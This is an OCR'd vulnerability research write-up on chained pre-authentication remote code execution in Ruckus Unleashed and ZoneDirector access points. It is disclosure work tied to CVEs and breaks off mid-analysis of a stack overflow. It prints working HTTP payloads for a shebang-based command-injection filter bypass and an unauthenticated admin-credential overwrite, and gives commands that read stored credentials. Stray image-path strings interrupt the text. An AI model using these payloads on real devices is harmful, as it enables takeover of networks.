Don't Ruck Us Again - The Exploit Returns

By Gal Zror (@waveburst)
October 14, 2020


This article presents a follow-up vulnerability research conducted on Ruckus access points. Ruckus Networks is a company selling wired and wireless networking equipment and software. For the right context, we recommend checking our previous research found here.

This current research resulted in 2 different pre-authentication remote code executions. Exploitation uses vulnerabilities such as information leakage, credentials overwrite, authentication bypass, command injection, and stack overflow. Vulnerabilities were found and verified on Ruckus’s Unleashed product line and ZoneDirector product line. We also found XSS, DoS, and information leakage vulnerabilities.

We introduced this research at “DEFCON28 safe mode”:

Introduction - Recap:

Our first research focused on ‘/bin/emfd’, which is the web interface logic. We discovered 10 CVEs that lead to 3 different RCEs. After the disclosure process with Ruckus was complete, we checked that Ruckus indeed fixed all the vulnerabilities correctly. We discovered that CVE-2019-19838 was not patched correctly and can still be used for OS command injection. We then decided to conduct follow-up research and tried to gain a pre-auth RCE again. After achieving this (and since we now own an actual R510 Unleashed device), we continued to research other binaries not covered in our first research.

Important Binaries:

Before we begin, we would like to present the binaries that were found vulnerable in this research:

  • /bin/webs - This webserver is based on the “Embedthis-Appweb” open-source project. It handles HTTP/S requests and executes handlers according to its configuration. It then sends commands through a Unix domain socket to emfd.
  • /bin/emfd - This executable contains the web interface logic. It maps functions from jsp pages to its functions. Itimplements web interface commands such as backup, network/firewall configuration, retrieval of system information, and more.
  • /usr/lib/libemf.so - This library is used by emfd for web authentication and sanitization.

First Attack Scenario:

In this scenario, we found a way to reuse the command injection vulnerability (CVE-2020-13919) from our previous research. We then bypassed authentication by using the admin credentials overwriting vulnerability (CVE-2020-13915).

Reusing Previous Command injection (CVE-2020-13919):

Our first research found a post-authentication command injection vulnerability in 4 emfd functions(CVE-2019-19838). These functions were using libc’s system() without validating input parameters. After we informed Ruckus about this, they tried to fix this by using a validation function from libemf.so called is_validate_input_string():

This function checks whether a given string contains any on the following characters $;&()|"<>'\␣` and if so, denies the request.

At first, it might seem like proper validation. Still, we decided to thoroughly check this validator by creating a set of valid non-alphanumeric printable ASCII set, which is ,-:?.![]{}[]+*=#%@\^_~.

Now that we got our primitives set, we performed some trial and error to determine whether command execution is still possible. Luckily, our set contains some very interesting primitives, particularly the pound sign (#), the exclamation mark (!), and slash (/). Together, these characters can create ashebang symbol. In Unix-like systems, this character sequence informs the program loader which interpreter to use. In our case, we could use #!/bin/sh to bypass validation and execute shell commands. However, we couldn’t just append a command right after #!/bin/sh. POSIX interpreters execute commands only when there is a new line after the shebang. Thankfully there’s no validation for a new line character (\n), so we could append a new line with a command to be executed right after the shebang. The only problem left to solve was that space was also not a valid character. That means we had to find a different character that works instead of space. Perhaps you already guessed by now - we simply replaced spaces with tabs. That is how we overcame the is_validate_input_string() validator and executed arbitrary commands once again.

Here’s an example of a vulnerable request that executes a sleep 10 command:

POST /admin/_cmdstat.jsp HTTP/1.1
Content-Type: application/x-www-form-urlencoded charset=UTF-8
X-CSRF-Token: 1VvEMc1nbx
Cookie: -ejs-session-=x0ea15a04dc0b243874d37739741e4946
Content-Length: 205

<ajax-request action='docmd' xcmd='get-platform-depends' updater='system.1568118269965.3208' comp='system'>
<xcmd cmd='import-avpport' uploadFile='#!/bin/sh\nsleep\t10' type='wlan-maxnums'/>

Since Ruckus fixed our previous authentication bypass, we still had to find a new way to bypass authentication to complete our pre-auth RCE.

Credentials overwrite (CVE-2020-13915):

To bypass authentication, we first must find a jsp page that calls some functionality. Furthermore, we need a page that doesn’t verify session authentication.Let’s have a look at /web/admin/_wla_conf.jsp page, which uses an emfd function called AjaxConf(). This function expects an ajax XML request with an action attribute, that in our case can be either setconf or docmd. We discovered that the setconf function was vulnerable to credentials overwrite, and we will explain more about this later.

But first, we would like to describe how this function was reachable without authentication. This is what the /web/admin/_wla_conf.jsp page looks like:

Delegate("WithoutLoginAccessCheck", session\["cid"\], 'true');
Delegate("AjaxConf", session\["cid"\]);

Our previous research revealed that the SessionCheck() function is used for verifying user authentication before reaching additional functions in the jsp page. Thankfully this page doesn’t use SessionCheck(). However, we still had to pass WithoutLoginAccessCheck to reach the vulnerable AjaxConf function.

Let’s first understand what WithoutLoginAccessCheck expects:

We realized from WithoutLoginAccessCheck() decompiled code, that it expects anAjax XML request with an action attribute. If the action attribute is setconf or docmd, it will call CheckResetCredentialConfPara() or CheckResetCredentialCmdPara(), respectively. These two functions validate that the ajax XML request contains the right attributenames for each function.

When reaching to CheckResetCredentialCmdPara(), its action attribute is docmd. Therefore, it triggers an adapter_docommand function that calls a large function called doCommand in emfd. Sadly, the functionality we reached through CheckResetCredentialCmdPara() is very limited, since it only permits five commands that either validate or retrieve system information.

For that reason, we decided to focus on CheckResetCredentialConfPara(). Its action attribute is setconf, causing it to trigger the adapter_setConf() function when it reaches AjaxConf. This function can update configuration files in the device’s configuration directory, /writable/etc/airspider.

Similar to the CheckResetCredentialCmdPara() function, CheckResetCredentialConfPara() also checks that an ajax request contains valid attributes. It expects an admin XML element with the following values:

The above decompiled code shows us that 7 attributed are needed by CheckResetCredentialConfPara() - username, fallback-local, authsvr-id, auth-by, x-password, IS_PARTIAL, reset, and auth-token. That’s how we reconstructed the followingvalid ajax request, that passes the CheckResetCredentialConfPara() check and continues to AjaxConf():

<ajax-request action='setconf' updater='acl-list.1579433244273.4243' comp='system'>
    <admin username="admin" x-password="1234" auth-token="" reset=true IS_PARTIAL="" auth-by="local" authsvr-id='0' fallback-local="true" />

System configuration file:

system.xml is the primary system configuration file found in /writable/etc/airespider/system.xml. Among other important configurations, it also contains the admin credentials. Conveniently, the admin XML element in the ajax request has the same nodes expected by system.xml for admin credentials. We then got the idea that we can try to overwrite admin credentials byoverwriting this node in system.xml.

Now that we finally got to AjaxConf(), we needed to understand what functionality can be used. Since we are passing a setconf action, AjaxConf() will use adapter_setConf() to update a configuration file found in /writable/etc/airspirder/{comp}.xml. adapter_setConf() receives which configuration file to update from the comp attribute in the ajax XML request. If we get it to update system.xml, we will overwrite admin credentials.

ruckus$ ls /writable/etc/airespider/
alarm-list.xml              cluster                     mdnsproxyrule-list.bak.xml  usbdev-list.bak.xml
ap-list.bak.xml             custom.xml                  mdnsproxyrule-list.xml      usbdev-list.xml
ap-list.xml                 dropbear                    policy-list.bak.xml         user-list.bak.xml
apgroup-list.bak.xml        dump                        policy-list.xml             user-list.xml
apgroup-list.xml            eventd-stat.xml             policy6-list.bak.xml        wlangroup-list.bak.xml
avpap-list.xml              guest-list.bak.xml          policy6-list.xml            wlangroup-list.xml
avppolicy-list.bak.xml      guest-list.xml              syslog.conf                 wlansvc-list.bak.xml
avppolicy-list.xml          guestservice-list.bak.xml   system.bak.xml              wlansvc-list.xml
avpport-list.bak.xml        guestservice-list.xmlsystem.xml
avpport-list.xml            license-list.bak.xml        uploadavpport_file
certs                       license-list.xml            uploaded

ruckus$ grep admin /writable/etc/airespider/system.xml
<admin username="admin" x-password="2345" auth-token="" reset="true" \\
IS_PARTIAL="" auth-by="local" authsvr-id="0" fallback-local="true" />

The difficulty with adapter_setConf() was that it couldn’t just update system.xml. If the comp attribute was set to “system”, it could only update a specific node called “adv-radio”, which was not our desired admin node. Thankfully, if the comp attribute wasn’t set to “system”, we could get adapter_setConf() to update any other configuration file with our adminnode.

This update was achievable because we realized that the comp attribute was the actual XML file name. For example, when comp was set to “system”, adapter_setConf() would update /writable/etc/airespider/system.xml, and if comp was set to “ap-list”, adapter_setConf() would update /writable/etc/airespider/ap-list.xml. Our holy grailwas to find a comp value that was not “system”, while still being able to update /writable/etc/airespider/system.xml. In other words, we had to find a way to access system.xml without setting comp to “system.xml”. Problematic, right?

Thankfully, we could use slash (“/”) for our rescue. By using “/system.xml” instead of on “system.xml”, we managed to overcome this obstacle. The comp attribute is no longer equal to “systeml.xml”. Since POSIX allows us to use multiple slashes in a file path,/writable/etc/airespider//system.xml is perfectly fine and can be updated by adapter_setConf().

We could now use this following unauthenticated HTTP request to overwrite admin credentials to admin:1234.

POST /admin/_wla_conf.jsp HTTP/1.1
Content-Type: application/x-www-form-urlencoded charset=UTF-8
Content-Length: 239
Connection: close

<ajax-request action='setconf' updater='acl-list.1579433244273.4243' comp='/system'>
<admin username="admin" x-password="1234" auth-token="" reset=true IS_PARTIAL="" auth-by="local" authsvr-id='0' fallback-local="true" />


After overwriting admin credentials, we can use the previous command injection and pop a busybox shell using telnetd. We can also retrieve the original credentials by executing cat /tmp/var/run/rpmkey* |grep -A1 powerful.

ruckus$ grep -A1 "all_powerful_login" /var/run/rpmkey*

Now we could avoid leaving a footprint by using the same attack with the original credentials. Andthis wraps our first RCE.

Second Attack Scenario (CVE-2020-13916):

In this scenario, we exploited a stack overflow in code added by Ruckus to the “embedThis” web server.

Web interface secondary analysis:

In our previous research, we explained how the web interface operates, and discovered vulnerabilities in its generallogic binary - emfd. In this research, we decided to investigate Ruckus’s webserver binary. This binary is based on the “embedThis” open-source project. To make the webserver work with other logic components, Ruckus had to add code and handlers to “embedThis”. Before we get into the vulnerability itself, we would like to show how we managed to get function names from “embedThis” into the Ghidra disassembler. By doing this, we saved plenty of time onreversing and managed to spot additional code added by Ruckus very efficiently.

Fetching function names from “embedThis”:

Our end goal was to mark the code added by Ruckus to “embedThis”. Our motivation was that since “embedThis” is an open-source project, we did not have to invest time in analyzing it with Ghidra - we could read its source code. The code we had to reverse was the one added by Ruckus. We decided to use debugging functions found in the webserver to retrieve function names from “embedThis” and mark Ruckus proprietary functions.

We noticed that many anonymous functions, such as “FUN_0014f38”, use a debug function with“server.c:138” string as an argument. We then observed the server.c file at line 138 in the “embedThis” codebase. We noticed that thefunction “FUN_0014f38” name was actually “maCreateHttp”. That information motivated us to create a Ghidra script that examines these debug functions. We then used the “embedThis” codebase to extract and rename functions accordingly. We also used the script from our previous research and manual reverse engineering, to mark the functions added by Ruckus with an “rks_” prefix.

Here we can see that “maCreateHttp” uses ten functions from the original “embedThis” code, two functions added by Ruckus, and three functions that could not be automatically categorized.

Esp function registertion:

After retrieving the webserver’s function names, it was easier for us to understand how it operates. Ruckus created ejs handlers that execute specific functions based on thecontent of its ejs ( .jsp ) pages. For that, they registered their functions by calling registerEspExtension()

We noticed that Ruckus registered 12 functions. We could reach those functions by requesting a jsp page that uses the ejs handler. Wediscovered that the S(), Str(), EscapeJS(), and GetCookieValue() functions all use unsafe string copy. To produce a stack overflow, we then had to find a jsp page that didn’t check for authentication, and passed the user input to one of the above vulnerable functions.

We used the following grep command to search for pages that use any of the vulnerable functions and do not use constant strings. We managed to find two pages that use the S() function with a non-constant variable.

➜  web grep -nr "%S([^'\"s].*[^'\"])" `find . -iname "*.jsp"`
./admin/webPage/wifiNetwork/wlanSysConfirm.jsp:11:  \\
    <p style="line-height:30px;padding:5% 0;"><%S(content);%></p>
./user/error.jsp:19:    \\

Since error.jsp is relatively big and complex, we decided to focus on “wlanSysConfirm.jsp”. Here is the page content:

ruckus$ cat /web/admin/webPage/wifiNetwork/wlanSysConfirm.jsp
var aeFlag = EscapeJStr(params["flag"]);
var content = params["contentKey"]
content = content || "UN_SendEmailOrSMS";
var showCancel = params["showCancel"]!='false'

<div style="width:750px;margin-top:50px;border-radius:5px;" class="pop_box box_824" id="wlanSysConfirm">
